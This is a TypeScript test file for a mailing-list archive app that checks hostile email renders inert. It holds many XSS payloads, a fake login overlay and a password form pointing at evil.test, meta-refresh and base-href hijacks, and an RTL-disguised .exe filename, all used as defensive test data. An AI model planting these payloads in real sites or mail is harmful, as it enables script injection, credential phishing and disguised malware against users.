// Hostile mail rendered inert: every XSS vector of the shared table as the
// HTML part of an archived message, plus scripts in subjects, names,
// filenames and plain text. Stored through the factory (HTML sanitized with
// sanitizeMailHtml, as the importer does), loaded by the page's loader and
// rendered with the page's components.
import { renderToString } from "react-dom/server";
import { createElement } from "react";
import { beforeAll, describe, expect, it } from "vitest";
import { ArchiveMessageArticle, type MessageView } from "~/components/archive-message-article";
import type { ThreadItem } from "~/archive/read-thread.server";
import { ArchiveThreadItem } from "~/components/archive-thread-view";
import { loader as attachmentLoader } from "~/routes/lists.$slug.m.$publicId.attachments.$position";
import { loader as messageLoader } from "~/routes/lists.$slug.m.$publicId._index";
import { loader as threadLoader } from "~/routes/lists.$slug.thread.$publicId._index";
import { createArchiveList, createArchiveThread, type ListRecord } from "../support/archive-factories";
import { findExecutableConstructs } from "../unit/content/xss-check";
import { XSS_VECTORS } from "../unit/content/xss-vectors";
import { callRoute } from "./call-route";

const HOSTILE_SUBJECT = `<script>alert("subject")</script><img src=x onerror=alert(1)>`;
const HOSTILE_NAME = `"><svg onload=alert(1)>`;
const HOSTILE_TEXT = [
  "<script>alert('text')</script>",
  "javascript:alert(1)",
  "see https://evil.test/\"onmouseover=\"alert(1) and <a href=javascript:alert(1)>x</a>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "> <iframe src=https://evil.test></iframe>",
].join("\n");

const EXTRA_HTML = [
  '<div style="position:fixed;inset:0;z-index:99999;background:white">Your session expired. <a href="https://evil.test/login">Log in again</a></div>',
  '<p>Inline <img src="cid:logo@sender.example" alt="logo"> image</p>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  '<form action="https://evil.test"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
];

let list: ListRecord;
let thread: Awaited<ReturnType<typeof createArchiveThread>>;
const vectors = [...XSS_VECTORS, ...EXTRA_HTML];

beforeAll(async () => {
  list = await createArchiveList({ name: `<b>List</b>`, hostName: `<i onmouseover=alert(1)>Host</i>`, hostUrl: "javascript:alert(1)", infoUrl: "data:text/html,x" });
  thread = await createArchiveThread(list, [
    {
      key: "root", subject: HOSTILE_SUBJECT, fromName: HOSTILE_NAME, fromAddress: "mallory@evil.test", text: HOSTILE_TEXT,
      html: "<p>hello</p>",
      attachments: [
        { filename: `"><img src=x onerror=alert(1)>.html`, contentType: "text/html", content: "<script>alert(1)</script>" },
        { filename: "invoice\u202Efdp.exe", contentType: "application/x-msdownload", content: "MZ" },
        { filename: "logo.png", contentType: "image/png", content: "PNG", inline: true, contentId: "logo@sender.example" },
      ],
    },
    ...vectors.map((html, i) => ({ key: `v${i}`, parent: "root", subject: `Vector ${i}`, fromName: HOSTILE_NAME, text: "see HTML part", html })),
  ]);
});

async function renderMessage(publicId: string, view: "html" | "text") {
  const result = await callRoute(messageLoader, `/lists/${list.slug}/m/${publicId}?view=${view}`, { slug: list.slug, publicId });
  expect(result.status).toBe(200);
  const data = result.data as { message: MessageView; list: { name: string; url: string; listAddress: string | null } };
  return { data, html: rendered(createElement(ArchiveMessageArticle, { message: data.message, list: data.list })) };
}

/** React's server output, without the empty comments it puts between adjacent text nodes. */
function rendered(element: Parameters<typeof renderToString>[0]): string {
  return renderToString(element).replaceAll("<!-- -->", "");
}

describe("hostile HTML parts render inert on the message page", () => {
  it.each(vectors.map((vector, i) => [i, vector] as const))("vector %i: %s", async (i) => {
    const { data, html } = await renderMessage(thread.byKey.get(`v${i}`)!.publicId, "html");
    // A part with nothing left after sanitizing is no HTML part at all.
    expect(data.message.view).toBe(data.message.hasHtml ? "html" : "text");
    expect(findExecutableConstructs(data.message.html ?? "")).toEqual([]);
    expect(findExecutableConstructs(html)).toEqual([]);
    expect(html).not.toMatch(/evil\.test\/x\.css|http-equiv|<base/i);
  });

  it("turns cid: images into attachment links and drops overlay styles", async () => {
    const overlay = await renderMessage(thread.byKey.get(`v${XSS_VECTORS.length}`)!.publicId, "html");
    expect(overlay.html).not.toContain("position:fixed");
    expect(overlay.html).not.toContain("style=");
    const cid = await renderMessage(thread.byKey.get(`v${XSS_VECTORS.length + 1}`)!.publicId, "html");
    // The cid names an attachment of another message: no link, just the marker.
    expect(cid.html).toContain("[inline image]");
  });
});

describe("hostile subjects, names, text and filenames", () => {
  it("are escaped on the message page", async () => {
    const { html } = await renderMessage(thread.byKey.get("root")!.publicId, "text");
    expect(findExecutableConstructs(html)).toEqual([]);
    expect(html).toContain("&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;");
    expect(html).toContain("&quot;&gt;&lt;svg onload=alert(1)&gt;");
    expect(html).toContain("&lt;script&gt;alert(&#x27;text&#x27;)&lt;/script&gt;");
    expect(html).not.toMatch(/href="(?:javascript|data):/i);
    expect(html).toContain('href="https://evil.test/"'); // the link stops at the quote
    expect(html).toContain("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;.html");
  });

  it("and in the thread view, with the list's own settings neutralised", async () => {
    const result = await callRoute(threadLoader, "/", { slug: list.slug, publicId: thread.thread.publicId });
    const data = result.data as { items: ThreadItem[]; list: { hostUrl: string | null; infoUrl: string | null } };
    expect(data.list.hostUrl).toBeNull();
    expect(data.list.infoUrl).toBeNull();
    const html = data.items.map((item) => rendered(createElement(ArchiveThreadItem, { item }))).join("");
    expect(findExecutableConstructs(html)).toEqual([]);
    expect(html).toContain("&lt;script&gt;alert(&#x27;text&#x27;)&lt;/script&gt;");
  });

  it("reach downloads only as inert bytes with a safe name", async () => {
    const publicId = thread.byKey.get("root")!.publicId;
    const html = await callRoute(attachmentLoader, "/", { slug: list.slug, publicId, position: "0" });
    expect(html.response!.headers.get("Content-Type")).toBe("application/octet-stream");
    expect(html.response!.headers.get("Content-Disposition")).toBe(
      `attachment; filename="___img src_x onerror_alert_1__.html"; filename*=UTF-8''%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E.html`,
    );
    const exe = await callRoute(attachmentLoader, "/", { slug: list.slug, publicId, position: "1" });
    expect(exe.response!.headers.get("Content-Disposition")).toContain("filename*=UTF-8''invoice%E2%80%AEfdp.exe");
    expect(exe.response!.headers.get("Content-Security-Policy")).toBe("sandbox; default-src 'none'");
  });
});
